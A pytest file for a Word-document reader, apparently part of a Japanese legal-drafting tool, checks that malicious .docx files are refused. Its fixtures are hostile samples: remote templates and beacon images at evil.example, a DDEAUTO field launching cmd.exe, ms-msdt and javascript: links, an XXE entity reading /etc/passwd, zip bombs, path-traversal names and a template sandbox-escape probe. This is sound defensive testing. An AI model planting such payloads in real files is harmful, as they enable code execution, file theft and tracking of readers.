"""Word files made to harm: whatever they bring is refused by name, at each command that reads them."""

from __future__ import annotations

import io
import struct
import time
import zipfile
from pathlib import Path

import pytest
from drafting.scenario import run as kian
from word.scenario import DRAFT, a_docx, is_sound, made, made_of, p, parts_of, run, table, tr
from word.scenario import refused as refused_template

from gen.word.clean_copy import clean_copy
from gen.word.package import BadWordFile, read_package

from .scenario import TEMPLATE, W_NS, refused, relation, with_relation, with_template, zipped

SOUND = a_docx(p("本文"))


def field(*pieces: str) -> str:
    """A field as Word tears it into runs."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in pieces)
    return f"<w:p>{char.format('begin')}{runs}{char.format('end')}</w:p>"


OUTSIDE = {
    "attached template": (relation("attachedTemplate", "http://evil.example/x.dotm"), "attachedTemplate"),
    "attached template, inside": (relation("attachedTemplate", "x.dotm", False), "attachedTemplate"),
    "attached template, file": (relation("attachedTemplate", "file:///C:\\x\\y.dotx"), "attachedTemplate"),
    "linked picture": (relation("image", "http://evil.example/beacon.png"), "ファイルの外"),
    "picture on a share": (relation("image", "\\\\evil.example\\share\\x.png"), "ファイルの外"),
    "picture without a mode": (relation("image", "http://evil.example/x.png", False), "ファイルの外"),
    "link that runs": (relation("hyperlink", "javascript:alert(1)"), "ファイルの外"),
    "link to a file": (relation("hyperlink", "file:///etc/passwd"), "ファイルの外"),
    "link to a handler": (relation("hyperlink", "ms-msdt:/id PCWDiagnostic"), "ファイルの外"),
    "ole object": (relation("oleObject", "embeddings/oleObject1.bin", False), "OLE"),
    "ole object, linked": (relation("oleObject", "http://evil.example/x.html!"), "OLE"),
    "embedded workbook": (relation("package", "embeddings/x.xlsx", False), "埋め込み"),
    "activex": (relation("control", "activeX/activeX1.xml", False), "ActiveX"),
    "alt chunk": (relation("aFChunk", "chunk.html", False), "altChunk"),
    "sub document": (relation("subDocument", "http://evil.example/sub.docx"), "サブ文書"),
    "mail merge": (relation("mailMergeSource", "file:///C:/data.mdb"), "差し込み印刷"),
    "frame": (relation("frame", "http://evil.example/"), "フレーム"),
    "toolbars": (relation("attachedToolbars", "toolbars.bin", False), "ツールバー"),
}  # fmt: skip


@pytest.mark.parametrize(("row", "said"), OUTSIDE.values(), ids=OUTSIDE)
@pytest.mark.parametrize("part", ["word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"])
def test_what_leads_out_of_the_file_or_brings_a_foreign_body_is_refused(
    row: str, said: str, part: str
) -> None:
    with pytest.raises(BadWordFile, match=said) as caught:
        read_package(with_relation(row, part), "x.docx")
    assert caught.value.hint


@pytest.mark.parametrize(
    "target", ["https://www.soumu.go.jp/", "http://example.jp/a?b=c", "mailto:a@example.lg.jp"]
)
def test_an_ordinary_link_of_a_person_is_no_attack(target: str) -> None:
    assert read_package(with_relation(relation("hyperlink", target)), "x.docx")


FIELDS = {
    "dde": field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "dde torn apart": field(" DD", "EAU", "TO c:\\\\x "),
    "dde in small letters": field(" dde x y "),
    "include text": field(' INCLUDETEXT "file:///C:/secret.docx" '),
    "include picture": field(' INCLUDEPICTURE "http://evil.example/x.png" \\d '),
    "link": field(" LINK Excel.Sheet.8 C:\\\\x.xls a1 "),
    "database": field(' DATABASE \\d "C:\\\\x.mdb" '),
    "macro button": field(" MACROBUTTON run click "),
    "import": field(' IMPORT "http://evil.example/x" '),
    "simple": f'<w:p><w:fldSimple w:instr=" INCLUDETEXT x ">{run("a")}</w:fldSimple></w:p>',
    "inside another": field(' IF 1 = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                            '<w:instrText> DDE a b </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
                            '<w:r><w:instrText> "x" '),
    "never closed": '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE a</w:instrText></w:r></w:p>',
    "without a beginning": "<w:p><w:r><w:instrText>DDE a</w:instrText></w:r></w:p>",
}  # fmt: skip


@pytest.mark.parametrize("body", FIELDS.values(), ids=FIELDS)
def test_a_field_that_fetches_or_runs_is_refused_in_every_part(body: str) -> None:
    header = f'<w:hdr {W_NS}><w:p><w:pPr><w:pStyle w:val="KianDraft"/></w:pPr></w:p>{body}</w:hdr>'
    for data in (
        a_docx(body),
        a_docx("<w:p/>", parts={"word/header1.xml": header}),
        a_docx("<w:p/>", parts={"word/header1.xml": header.encode("utf-16")}),
        a_docx("<w:p/>", parts={"word/footnotes.xml": f"<w:footnotes {W_NS}>{body}</w:footnotes>"}),
    ):
        with pytest.raises(BadWordFile, match="フィールド"):
            read_package(data, "x.docx")


def test_fields_that_only_count_and_cite_are_no_attack() -> None:
    assert read_package(
        a_docx(field(" PAGE "), field(" REF _k_a \\h "), field(' DATE \\@ "yyyy" ')), "x.docx"
    )


@pytest.mark.parametrize("element", ['<w:altChunk r:id="rId9"/>', '<w:p><w:subDoc r:id="rId9"/></w:p>'])
def test_an_element_that_pulls_in_another_file_is_refused(element: str) -> None:
    body = element.replace(
        "/>", ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>', 1
    )
    with pytest.raises(BadWordFile, match=r"altChunk|subDocument"):
        read_package(a_docx(body), "x.docx")


def test_the_body_that_word_opens_is_the_body_that_is_read() -> None:
    """Else a lawyer reads one text in Word, and Kian another."""
    parts = parts_of(SOUND)
    other = parts["_rels/.rels"].replace(b"word/document.xml", b"word/other.xml")
    two = parts["_rels/.rels"].replace(
        b"</Relationships>",
        relation("officeDocument", "word/other.xml", False).encode() + b"</Relationships>",
    )
    for rels in (other, two):
        with pytest.raises(BadWordFile, match="Wordが開く本文"):
            read_package(zipped({**parts, "_rels/.rels": rels, "word/other.xml": b"<x/>"}), "x.docx")


@pytest.mark.parametrize(
    ("kind", "said"),
    [("document.main+xml", "本文の種類"), ("template.main+xml", "本文の種類"), ("", "本文の種類")],
)
def test_another_kind_of_file_under_the_name_of_a_word_file_is_refused(kind: str, said: str) -> None:
    parts = parts_of(SOUND)
    types = parts["[Content_Types].xml"].decode()
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml."
    wrong = f"{word}{kind}" if kind.startswith("template") else f"application/x-{kind}"
    types = types.replace(f"{word}document.main+xml", wrong)
    with pytest.raises(BadWordFile, match=said):
        read_package(zipped({**parts, "[Content_Types].xml": types.encode()}), "x.docx")


# -- archives -------------------------------------------------------------------------------


def test_entries_that_share_their_bytes_are_refused() -> None:
    """A bomb without nesting: a thousand entries over the same compressed bytes."""
    data = bytearray(
        zipped({**parts_of(SOUND), "word/a.bin": b"\0" * 1_000_000, "word/b.bin": b"\0" * 1_000_000})
    )
    starts = []
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        starts.append(at)
        at = data.find(b"PK\x01\x02", at + 4)
    first = next(at for at in starts if data[at + 46 : at + 56] == b"word/a.bin")
    second = next(at for at in starts if data[at + 46 : at + 56] == b"word/b.bin")
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    with pytest.raises(BadWordFile, match="重なって"):
        read_package(bytes(data), "x.docx")


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_ways_of_packing_that_word_does_not_know_are_refused(method: int) -> None:
    """An LZMA entry may ask for a dictionary of gigabytes."""
    with pytest.raises(BadWordFile, match="圧縮"):
        read_package(zipped(parts_of(SOUND), method), "x.docx")


def test_a_word_file_inside_a_word_file_is_bytes_and_never_unpacked() -> None:
    inner = zipped({f"{n}.bin": b"\0" * 1_000_000 for n in range(50)})
    assert (
        read_package(a_docx("<w:p/>", parts={"word/media/a.bin": inner}), "x").parts["word/media/a.bin"]
        == inner
    )


@pytest.mark.parametrize(
    "name", ["word/a\0.xml", "word/a/../../b.xml", "//x/y.xml", "word/ .xml/..", "C:x.xml"]
)
def test_a_name_with_a_path_or_a_nul_never_becomes_a_file(name: str) -> None:
    data = bytearray(zipped({**parts_of(SOUND), "N" * len(name): b"x"}))
    data = data.replace(b"N" * len(name), name.encode())
    try:
        parts = read_package(bytes(data), "x.docx").parts
    except BadWordFile as error:
        assert error.hint
    else:  # a name ends at its NUL
        assert not any("\0" in one or ".." in one for one in parts)


# -- at the commands ------------------------------------------------------------------------

ATTACKS = {
    "template": (with_relation(OUTSIDE["attached template"][0]), "attachedTemplate"),
    "field": (a_docx(FIELDS["dde"]), "DDEAUTO"),
    "macro": (a_docx("<w:p/>", parts={"word/vbaProject.bin": b"x"}), "マクロ"),
    "bomb": (a_docx("<w:p/>", parts={"word/media/a.bin": b"\0" * (33 * 1024 * 1024)}), "大きさ"),
    "entities": (
        a_docx(parts={"word/document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        "DOCTYPE",
    ),
    "runs": (a_docx(*[p(run("a") * 12)] * 10_000), "多すぎます"),
    "paragraph": (a_docx(p("あ" * 30_000)), "段落が長すぎます"),
    "unclosed": (a_docx(*[p("{{")] * 2_000), "閉じていません"),
    "sandbox": (a_docx(p("{{ ''.__class__.__mro__ }}")), "「_」で始まる名前"),
    "no word file": (b"MZ\x90\x00 not at all", "読めません"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("command", [("generate", "--date", "R8.4.1"), ("list", "--why", "contracts/operation-support@ops"),
                                     ("template", "preview", TEMPLATE), ("template", "lint")])  # fmt: skip
def test_each_command_that_reads_templates_says_so_and_writes_nothing(
    attack: str, command: tuple[str, ...], tmp_path: Path
) -> None:
    data, said = ATTACKS[attack]
    city = with_template(tmp_path / "city", data)
    command = tuple(str(city / one) if one == TEMPLATE else one for one in command)
    if (attack, command[0]) == ("sandbox", "list"):  # reads what is included, compiles and runs nothing
        assert "取り込む条文はありません" in kian("-C", city, *command).out
    else:
        assert said in refused(city, *command)


@pytest.mark.parametrize("attack", ["template", "macro", "bomb", "entities", "no word file"])
def test_the_text_of_such_a_file_is_not_shown(attack: str, tmp_path: Path) -> None:
    file = tmp_path / "x" / "evil.docx"
    file.parent.mkdir()
    file.write_bytes(ATTACKS[attack][0])
    assert ATTACKS[attack][1] in refused(tmp_path / "x", "template", "text", str(file), beside=tmp_path)


def test_a_paper_that_came_back_with_an_attack_is_not_handed_on() -> None:
    with pytest.raises(BadWordFile, match="attachedTemplate"):
        clean_copy(ATTACKS["template"][0], "t", "2026-04-01", "paper.docx")


def test_a_million_runs_are_refused_within_seconds() -> None:
    began = time.process_time()
    with pytest.raises(BadWordFile, match="大きさ"):
        read_package(a_docx("<w:p>" + run("a") * 1_000_000 + "</w:p>"), "x.docx")
    assert time.process_time() - began < 30


def test_a_table_of_ten_thousand_rows_is_no_attack() -> None:
    assert read_package(a_docx(table(*[tr("a", "b")] * 10_000)), "x.docx")


def test_an_archive_that_lies_about_the_count_of_its_entries_is_refused_or_read_whole() -> None:
    data = bytearray(SOUND)
    at = data.rfind(b"PK\x05\x06")
    data[at + 8 : at + 12] = struct.pack("<HH", 65_535, 65_535)
    try:
        assert read_package(bytes(data), "x.docx").parts == parts_of(io.BytesIO(SOUND).getvalue())
    except BadWordFile as error:
        assert error.hint


# -- papers that came back as templates -----------------------------------------------------


def test_a_tag_in_a_tracked_change_is_refused_before_it_breaks_the_file() -> None:
    body = (
        '<w:p><w:ins w:id="1" w:author="a" w:date="2026-04-01T00:00:00Z">'
        + run("第{{ jo('a') }}")
        + "</w:ins></w:p>"
    )
    assert "変更を承諾" in refused_template(body)


def test_a_finished_paper_that_becomes_a_template_brings_no_field_without_a_target(tmp_path: Path) -> None:
    first = made(p("{{ jo('a') }}　本文"), p("{{ ref('a') }}による。"))
    again = made_of(first.write(DRAFT, {}))
    assert again.twin == first.twin
    assert "_k_" not in again.package.parts["word/document.xml"].decode()
    is_sound(again.write(DRAFT, {}), tmp_path)


def test_a_header_in_another_encoding_is_read_and_a_torn_one_refused() -> None:
    header = f'<w:hdr {W_NS}><w:p><w:pPr><w:pStyle w:val="KianDraft"/></w:pPr></w:p>{p("見出し")}</w:hdr>'
    declared = f'<?xml version="1.0" encoding="Shift_JIS"?>{header}'.encode("cp932")
    for data in (declared, header.encode("utf-16")):
        document = made(p("本文"), parts={"word/header1.xml": data})
        assert "見出し" in document.stamped(DRAFT).parts["word/header1.xml"].decode()
    for torn in (header.encode()[:-3], header.encode().replace("見".encode(), b"\x80")):
        with pytest.raises(BadWordFile, match="XML"):
            made(p("本文"), parts={"word/header1.xml": torn})
